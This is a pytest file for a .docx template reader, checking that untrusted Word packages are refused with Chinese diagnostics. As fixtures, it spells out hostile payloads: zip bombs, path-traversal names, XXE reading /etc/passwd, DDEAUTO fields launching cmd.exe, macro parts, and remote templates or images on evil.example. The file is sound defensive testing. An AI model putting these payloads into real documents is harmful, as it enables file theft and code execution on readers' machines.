"""Every threat of packages from strangers is refused by name, in one Chinese line, before it can do harm."""

from __future__ import annotations

import io
import re
import struct
import warnings
import zipfile
from collections.abc import Callable

import pytest

from planwriter.diagnostic import FileError, TemplateError
from planwriter.word.package import read_package
from tests.word_package.building import NAMESPACES, WML, docx, p, parts_of, relationships, table, with_flags, zipped

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def refused(data: bytes, **options: bool) -> list[str]:
    """The codes with which a package is refused; none when it is accepted."""
    try:
        read_package(data, name="模板.docx", **options)  # type: ignore[arg-type]
    except TemplateError as fault:
        assert all(re.search("[\u4e00-\u9fff]", d.message) and "\n" not in d.message for d in fault.diagnostics)
        assert all(d.hint and d.place is not None and d.place.file == "模板.docx" for d in fault.diagnostics)
        return [d.code for d in fault.diagnostics]
    return []


def sentence(data: bytes) -> str:
    with pytest.raises(TemplateError) as caught:
        read_package(data, name="模板.docx")
    return caught.value.diagnostics[0].message


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
OTHER_FILES: dict[str, tuple[bytes, str]] = {
    "empty": (b"", "空的"),
    "doc": (OLE + "WordDocument".encode("utf-16-le"), ".doc"),
    "encrypted": (OLE + "EncryptedPackage".encode("utf-16-le"), "密码"),
    "xls": (OLE + "Workbook".encode("utf-16-le"), ".xls"),
    "ppt": (OLE + "PowerPoint Document".encode("utf-16-le"), ".ppt"),
    "rtf": (b"{\\rtf1\\ansi hello}", "RTF"),
    "html": (b"<!DOCTYPE html><html><body>x</body></html>", "HTML"),
    "html_from_word": (b"\xef\xbb\xbf<html xmlns:o='urn'><head></head></html>", "HTML"),
    "mht": (b"MIME-Version: 1.0\nContent-Type: multipart/related", "HTML"),
    "pdf": (b"%PDF-1.7\n", "PDF"),
    "flat_xml": (b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><pkg:package/>', "XML"),
    "rar": (b"Rar!\x1a\x07", "压缩包"),
    "text": ("年度工作计划".encode(), "不是 Word 文档"),
    "plain_zip": (zipped({"a.txt": "x"}), "zip"),
    "odt": (zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}), "OpenDocument"),
    "xlsx": (
        zipped(
            {
                "[Content_Types].xml": "<Types>application/vnd.openxmlformats-officedocument.spreadsheetml"
                ".sheet.main+xml</Types>",
                "xl/workbook.xml": "<x/>",
            }
        ),
        "Excel",
    ),
    "pptx": (zipped({"[Content_Types].xml": "<Types>presentationml</Types>", "ppt/a.xml": "<x/>"}), "PowerPoint"),
    "docm_renamed": (docx(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"), "宏"),
    "strict": (
        zipped(
            parts_of(p("x"))
            | {"word/document.xml": '<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"/>'}
        ),
        "Strict",
    ),
}


@pytest.mark.parametrize("kind", OTHER_FILES)
def test_what_is_no_docx_is_called_what_it_is(kind: str) -> None:
    data, word = OTHER_FILES[kind]
    assert word in sentence(data)
    assert refused(data) == ["package-kind"]


def duplicate(name: str) -> bytes:
    held = io.BytesIO(docx())
    with warnings.catch_warnings(), zipfile.ZipFile(held, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr(name, "<x/>")
    return held.getvalue()


def with_entry(name: str, mode: int = 0) -> bytes:
    held = io.BytesIO(docx())
    with zipfile.ZipFile(held, "a") as archive:
        info = zipfile.ZipInfo("aa")
        info.filename = info.orig_filename = name
        info.external_attr = mode << 16
        archive.writestr(info, "target")
    return held.getvalue()


def overlapping() -> bytes:
    """Two directory records that point at the same bytes."""
    data = docx(extra={"word/a.bin": b"0" * 50, "word/b.bin": b"0" * 50})
    records = [m.start() for m in re.finditer(b"PK\x01\x02", data)]
    changed = bytearray(data)
    offset = struct.unpack_from("<I", data, records[-2] + 42)[0]
    struct.pack_into("<I", changed, records[-1] + 42, offset)
    return bytes(changed)


def broken_crc() -> bytes:
    data = bytearray(zipped(parts_of(p("正文" * 50)), method=zipfile.ZIP_STORED))
    data[bytes(data).index("正文".encode()) + 1] ^= 1
    return bytes(data)


PACKAGE_THREATS: dict[str, tuple[Callable[[], bytes], str]] = {
    "truncated": (lambda: docx()[:-200], "package-damaged"),
    "crc": (broken_crc, "package-damaged"),
    "bomb_part": (lambda: docx(extra={"word/media/a.bin": b"\0" * (31 << 20)}), "package-bomb"),
    "bomb_sum": (lambda: docx(extra={f"word/media/{n}.bin": b"\0" * (16 << 20) for n in range(4)}), "package-bomb"),
    "too_large": (lambda: docx() + b"\0" * (51 << 20), "package-too-large"),
    "many_entries": (lambda: docx(extra={f"word/{n}.bin": b"" for n in range(1001)}), "package-too-many-entries"),
    "entry_flood": (lambda: docx() + b"PK\x01\x02" * 30_000, "package-too-many-entries"),
    "lying_size_small": (lambda: with_flags(docx(), size=5), "package-damaged"),
    "lying_size_large": (lambda: with_flags(docx(), size=100_000), "package-damaged"),
    "method_bzip2": (lambda: zipped(parts_of(p("x")), method=zipfile.ZIP_BZIP2), "package-method"),
    "method_lzma": (lambda: zipped(parts_of(p("x")), method=zipfile.ZIP_LZMA), "package-method"),
    "method_unknown": (lambda: with_flags(docx(), method=99), "package-method"),
    "encrypted_entry": (lambda: with_flags(docx(), flag=1), "package-encrypted"),
    "overlap": (overlapping, "package-overlap"),
    "duplicate_entry": (lambda: duplicate("word/document.xml"), "package-duplicate-entry"),
    "case_duplicate_entry": (lambda: duplicate("word/Document.xml"), "package-duplicate-entry"),
    "dotdot_entry": (lambda: with_entry("../evil.xml"), "package-bad-name"),
    "inner_dotdot_entry": (lambda: with_entry("word/../../evil.xml"), "package-bad-name"),
    "absolute_entry": (lambda: with_entry("/etc/evil"), "package-bad-name"),
    "drive_entry": (lambda: with_entry("C:/evil"), "package-bad-name"),
    "backslash_entry": (lambda: with_entry("word\\evil.xml"), "package-bad-name"),
    "control_entry": (lambda: with_entry("word/a\x07.xml"), "package-bad-name"),
    "symlink_entry": (lambda: with_entry("word/link.xml", 0o120777), "package-symlink"),
    "no_document": (
        lambda: zipped({k: v for k, v in parts_of(p("x")).items() if k != "word/document.xml"}),
        "package-damaged",
    ),
    "broken_xml": (lambda: docx("<w:p>"), "package-damaged"),
}


@pytest.mark.parametrize("threat", PACKAGE_THREATS)
def test_a_hostile_archive_is_refused(threat: str) -> None:
    build, code = PACKAGE_THREATS[threat]
    assert code in refused(build())


def doctype(encoding: str) -> bytes:
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    )
    return text.encode(encoding)


def field(code: str) -> str:
    pieces = "".join(f'<w:r><w:instrText xml:space="preserve">{c}</w:instrText></w:r>' for c in (code[:2], code[2:]))
    return p(f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{pieces}<w:r><w:fldChar w:fldCharType="end"/></w:r>')


NESTED = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    '<w:r><w:instrText> "cmd" "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


def external(kind: str, target: str) -> bytes:
    return docx(arrows=[("rId9", kind, target, "External")])


CONTENT_THREATS: dict[str, tuple[bytes, str]] = {
    "xxe_document": (docx(extra={"word/comments.xml": doctype("utf-8")}), "package-doctype"),
    "xxe_utf16": (docx(extra={"word/comments.xml": doctype("utf-16")}), "package-doctype"),
    "xxe_utf16_le": (docx(extra={"word/comments.xml": doctype("utf-16-le")}), "package-doctype"),
    "xxe_utf16_be": (docx(extra={"word/comments.xml": doctype("utf-16-be")}), "package-doctype"),
    "xxe_rels": (docx(extra={"word/_rels/comments.xml.rels": doctype("utf-8")}), "package-doctype"),
    "doctype_unnamed_part": (docx(extra={"word/oddity.dat": doctype("utf-8")}), "package-doctype"),
    "doctype_content_types": (zipped(parts_of(p("x")) | {"[Content_Types].xml": doctype("utf-8")}), "package-doctype"),
    "odd_encoding": (
        docx(extra={"word/comments.xml": b'<?xml version="1.0" encoding="UTF-7"?><a/>'}),
        "package-encoding",
    ),
    "vba_part": (docx(extra={"word/vbaProject.bin": b"x"}), "package-active-content"),
    "vba_type": (
        docx(extra={"word/a.bin": b"x"}, types={"word/a.bin": "application/vnd.ms-office.vbaProject"}),
        "package-active-content",
    ),
    "activex": (docx(extra={"word/activeX/activeX1.xml": "<x/>"}), "package-active-content"),
    "ole_part": (
        docx(
            extra={"word/embeddings/oleObject1.bin": b"x"}, arrows=[("rId9", "oleObject", "embeddings/oleObject1.bin")]
        ),
        "package-active-content",
    ),
    "ole_element": (
        docx(p('<w:r><w:object><o:OLEObject Type="Embed" ProgID="Package"/></w:object></w:r>')),
        "package-active-content",
    ),
    "control_element": (
        docx(p('<w:r><w:object><w:control r:id="rId1" w:name="a"/></w:object></w:r>')),
        "package-active-content",
    ),
    "altchunk": (docx('<w:altChunk r:id="rId9"/>'), "package-altchunk"),
    "altchunk_arrow": (docx(extra={"word/a.html": "x"}, arrows=[("rId9", "aFChunk", "a.html")]), "package-altchunk"),
    "ext_template": (external("attachedTemplate", "http://evil.example/t.dotm"), "package-external"),
    "ext_template_file": (external("attachedTemplate", "file:///C:/t.dotm"), "package-external"),
    "ext_image": (external("image", "http://evil.example/a.png"), "package-external"),
    "ext_ole": (external("oleObject", "http://evil.example/a.doc"), "package-external"),
    "ext_subdocument": (external("subDocument", "http://evil.example/a.docx"), "package-external"),
    "ext_frame": (external("frame", "http://evil.example/"), "package-external"),
    "ext_unc": (external("image", "\\\\evil\\share\\a.png"), "package-external"),
    "ext_mailmerge": (external("mailMergeSource", "file:///a.mdb"), "package-external"),
    "ext_settings": (
        docx(
            extra={
                "word/_rels/settings.xml.rels": relationships(
                    ("rId1", "attachedTemplate", "http://evil.example/t.dotm", "External")
                ),
                "word/settings.xml": "<x/>",
            }
        ),
        "package-external",
    ),
    "link_javascript": (external("hyperlink", "javascript:alert(1)"), "package-external"),
    "link_file": (external("hyperlink", "file:///etc/passwd"), "package-external"),
    "link_unc": (external("hyperlink", "\\\\evil\\share"), "package-external"),
    "link_ms_handler": (external("hyperlink", "ms-msdt:/id"), "package-external"),
    "vml_source": (
        docx(p('<w:r><w:pict><v:shape><v:imagedata src="http://evil.example/a"/></v:shape></w:pict></w:r>')),
        "package-external",
    ),
    "field_dde": (docx(field("DDE cmd x")), "package-field"),
    "field_ddeauto": (docx(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), "package-field"),
    "field_lower_case": (docx(field("ddeauto x y")), "package-field"),
    "field_includepicture": (docx(field('INCLUDEPICTURE "http://evil.example/a.png"')), "package-field"),
    "field_includetext": (docx(field('INCLUDETEXT "c:\\\\secret.txt"')), "package-field"),
    "field_link": (docx(field("LINK Excel.Sheet.8 a.xls")), "package-field"),
    "field_simple": (
        docx(p('<w:fldSimple w:instr=" DDEAUTO a b "><w:r><w:t>x</w:t></w:r></w:fldSimple>')),
        "package-field",
    ),
    "field_nested_name": (docx(NESTED), "package-field"),
    "field_in_header": (docx(header=field("DDE cmd x")), "package-field"),
    "field_in_footnote": (docx(footnotes=f'<w:footnote w:id="1">{field("DDE cmd x")}</w:footnote>'), "package-field"),
    "field_unclosed": (
        docx('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE x</w:instrText></w:r></w:p>'),
        "package-field",
    ),
    "field_in_oddly_named_main_part": (
        docx(
            extra={
                "customXml/main.bin": f"<w:document {NAMESPACES}><w:body>{field('DDE cmd x')}</w:body></w:document>"
            },
            types={"customXml/main.bin": WML + "document.main+xml"},
        ),
        "package-field",
    ),
    "field_hyperlink_file": (docx(field('HYPERLINK "file:///c:/a.exe"')), "package-external"),
}


@pytest.mark.parametrize("threat", CONTENT_THREATS)
def test_hostile_content_is_refused(threat: str) -> None:
    data, code = CONTENT_THREATS[threat]
    assert code in refused(data)


LENGTH_THREATS = {
    "paragraphs_150k": lambda: docx("<w:p/>" * 150_000),
    "paragraphs_other_prefix": lambda: docx(
        extra={"word/extra.xml": f'<x:a xmlns:x="{WML}">' + "<x:p/>" * 20_001 + "</x:a>"}
    ),
    "rows_20k": lambda: docx(table(*[("x",)] * 20_000)),
    "paragraphs_odd_name": lambda: docx(
        extra={"word/extra.bin": f"<w:hdr {NAMESPACES}>" + "<w:p/>" * 20_001 + "</w:hdr>"}
    ),
    "paragraphs_utf16": lambda: docx(
        extra={"word/extra.xml": (f"<w:hdr {NAMESPACES}>" + "<w:p/>" * 20_001 + "</w:hdr>").encode("utf-16")}
    ),
}


@pytest.mark.parametrize("threat", LENGTH_THREATS)
def test_endless_documents_of_strangers_are_counted_before_they_are_parsed(threat: str) -> None:
    assert refused(LENGTH_THREATS[threat](), untrusted=True) == ["package-too-long"]


def test_a_long_document_of_ones_own_is_accepted() -> None:
    assert refused(docx("<w:p/>" * 21_000)) == []


HARMLESS = {
    "plain": docx(),
    "https_link": external("hyperlink", "https://www.gov.cn/"),
    "http_link": external("hyperlink", "HTTP://example.org/"),
    "mail_link": external("hyperlink", "mailto:a@example.org"),
    "page_field": docx(field(" PAGE ")),
    "toc_field": docx(field(' TOC \\o "1-3" \\h ')),
    "bookmark_link_field": docx(field(' HYPERLINK \\l "_Toc1" ')),
    "template_type": docx(main_type=WML + "template.main+xml"),
    "stored": zipped(parts_of(p("x")), method=zipfile.ZIP_STORED),
    "folder_entry": with_entry("word/media/"),
}


@pytest.mark.parametrize("kind", HARMLESS)
def test_honest_documents_are_accepted(kind: str) -> None:
    assert refused(HARMLESS[kind], untrusted=True) == []


def test_all_findings_are_told_at_once() -> None:
    data = docx(
        '<w:altChunk r:id="rId9"/>' + field("DDE x y"),
        arrows=[("rId9", "image", "http://evil.example/a.png", "External")],
        extra={"word/vbaProject.bin": b"x"},
    )
    assert set(refused(data)) == {"package-altchunk", "package-field", "package-external", "package-active-content"}


def test_reading_accepts_links_and_fields_but_no_bombs_doctypes_or_macros() -> None:
    for name in ("ext_template", "link_file", "field_dde", "altchunk", "ext_image"):
        assert refused(CONTENT_THREATS[name][0], reading=True) == []
    assert refused(CONTENT_THREATS["vba_part"][0], reading=True) == ["package-active-content"]
    assert "package-doctype" in refused(CONTENT_THREATS["xxe_utf16"][0], reading=True)
    assert refused(PACKAGE_THREATS["bomb_part"][0](), reading=True) == ["package-bomb"]


def test_the_caller_chooses_the_error() -> None:
    with pytest.raises(FileError, match="RTF"):
        read_package(b"{\\rtf1}", name="旧文件.docx", error=FileError)


def test_parts_keep_the_order_of_the_file_and_their_bytes() -> None:
    parts = parts_of(p("正文"), header=p("页眉"))
    read = read_package(zipped(parts), name="a.docx")
    assert list(read.parts) == list(parts)
    assert read.parts["word/header.xml"] == str(parts["word/header.xml"]).encode()
